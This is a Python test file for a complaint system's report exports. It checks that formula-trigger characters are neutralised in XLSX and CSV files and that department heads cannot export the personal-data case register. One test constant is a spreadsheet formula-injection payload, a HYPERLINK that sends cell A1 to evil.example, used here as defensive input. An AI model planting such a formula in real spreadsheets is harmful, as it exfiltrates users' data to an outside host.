"""Exports are safe to open in Excel (issue 6): text beginning with = + - @ (or a tab or
carriage return) written by a complainant is neutralised in XLSX and CSV, so a spreadsheet
shows it and never runs it as a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from tests.reports.conftest import october, scope  # noqa: F401
from tousu.cases.models import Complaint
from tousu.cases.personal import mask_name
from tousu.reports.generate import generate
from tousu.reports.render.cells import neutralise

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_triggers_are_prefixed(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_plain_text_and_numbers_are_untouched() -> None:
    assert neutralise("电梯故障") == "电梯故障"
    assert neutralise(-3) == -3


def test_a_formula_in_a_complaint_stays_text_in_the_register_workbook_and_csv(scope: Any, october: Any) -> None:  # noqa: F811
    case = october["A"]
    Complaint.objects.filter(pk=case.pk).update(complainant_name="@admin", content=FORMULA)

    made = generate("case_register", "xlsx", scope, "zh-hans")
    sheet = openpyxl.load_workbook(io.BytesIO(made.data)).active
    cells = [cell for row in sheet.iter_rows(min_row=4) for cell in row if isinstance(cell.value, str)]
    assert not [c for c in cells if c.data_type == "f"]  # no formula cell anywhere
    values = [c.value for c in cells]
    # The register shows names masked (docs/access.md): the masked "@*****" is still neutralised.
    assert "'" + FORMULA in values and "'" + mask_name("@admin") in values
    assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]

    made = generate("case_register", "csv", scope, "zh-hans")
    rows = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
    flat = [value for row in rows for value in row]
    assert "'" + FORMULA in flat and "'" + mask_name("@admin") in flat
    assert not [v for v in flat if v.startswith(("=", "+", "-", "@"))]


def test_a_department_head_may_not_export_the_case_register_but_statistics(setup_data: None, staff: Any) -> None:
    head = staff("department_head", "wy_engineering")
    manager = staff("complaint_manager", "wy_customer_service")
    query = {"period": "2026-10", "policy": "property-office"}
    refused = head.get("/reports/documents/case_register/csv", **query)
    assert refused.status_code == 403
    assert refused.json()["message"] == "您没有导出个人信息的权限。"
    assert head.get("/reports/documents/monthly_statistics/csv", **query).status_code == 200
    assert manager.get("/reports/documents/case_register/csv", **query).status_code == 200
